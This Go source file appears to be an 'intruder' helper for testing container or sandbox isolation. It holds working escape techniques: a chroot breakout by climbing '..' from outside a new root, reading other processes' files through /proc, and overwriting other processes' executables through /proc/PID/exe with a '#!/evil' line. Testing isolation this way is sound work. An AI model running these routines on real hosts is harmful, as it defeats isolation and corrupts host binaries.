package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: intruder chroot FILE | peek FILE | fds | caps | hold | listen SOCKET | criu STEP ARGS")
		os.Exit(2)
	}
	var err error
	switch verb := os.Args[1]; verb {
	case "chroot":
		err = escapeChroot(os.Args[2])
	case "peek":
		peek(os.Args[2])
	case "fds":
		err = listFDs()
	case "caps":
		err = caps()
	case "hold":
		err = hold()
	case "criu":
		err = criu(os.Args[2], os.Args[3:])
	case "listen":
		err = listen(os.Args[2])
	default:
		err = fmt.Errorf("unknown verb %q", verb)
	}
	if err != nil {
		fmt.Println("intruder:", err)
		os.Exit(1)
	}
}

// escapeChroot keeps a working directory outside of a new root and climbs from it.
func escapeChroot(file string) error {
	if err := unix.Mkdir("/cage", 0o700); err != nil && !errors.Is(err, unix.EEXIST) {
		return err
	}
	if err := unix.Chroot("/cage"); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return show(file)
}

func show(file string) error {
	data, err := os.ReadFile(file)
	if err != nil {
		return err
	}
	fmt.Printf("escaped: %s\n", strings.TrimSpace(string(data)))
	return nil
}

func others() []string {
	dir, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer dir.Close()
	names, _ := dir.Readdirnames(-1)
	var out []string
	for _, n := range names {
		if pid, err := strconv.Atoi(n); err == nil && pid != os.Getpid() {
			out = append(out, n)
		}
	}
	return out
}

func peek(file string) {
	for {
		for _, pid := range others() {
			for _, way := range []string{"/root", "/cwd"} {
				if show("/proc/"+pid+way+file) == nil {
					return
				}
			}
		}
	}
}

func hold() error {
	for {
		for _, pid := range others() {
			names, _ := os.ReadDir("/proc/" + pid + "/fd")
			for _, n := range names {
				path := "/proc/" + pid + "/fd/" + n.Name()
				target, _ := os.Readlink(path)
				if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0); err == nil {
					if !strings.HasPrefix(target, "/") {
						fmt.Printf("opened %s -> %s\n", path, target)
					}
					unix.Close(fd)
				}
			}
			exe := "/proc/" + pid + "/exe"
			target, _ := os.Readlink(exe)
			fd, err := unix.Open(exe, unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if _, err := unix.Write(fd, []byte("#!/evil\n")); err == nil {
				fmt.Printf("wrote to %s -> %s\n", exe, target)
			}
			unix.Close(fd)
		}
	}
}

func caps() error {
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&header, &data[0]); err != nil {
		return err
	}
	fmt.Printf("pid %d CapEff %x\n", os.Getpid(), uint64(data[1].Effective)<<32|uint64(data[0].Effective))
	return nil
}

// listen stands for a service of the host's.
func listen(path string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := unix.Bind(fd, &unix.SockaddrUnix{Name: path}); err != nil {
		return err
	}
	if err := unix.Listen(fd, 1); err != nil {
		return err
	}
	for {
		conn, _, err := unix.Accept(fd)
		if err != nil {
			return err
		}
		unix.Close(conn)
	}
}

func listFDs() error {
	for fd := range 1024 {
		path := "/proc/self/fd/" + strconv.Itoa(fd)
		target, err := os.Readlink(path)
		// The Go runtime keeps the limits of its own cgroup open.
		if err == nil && !strings.HasPrefix(target, "/sys/fs/cgroup/cpu") {
			fmt.Printf("%d %s\n", fd, target)
		}
	}
	_, err := io.WriteString(os.Stdout, "end\n")
	return err
}
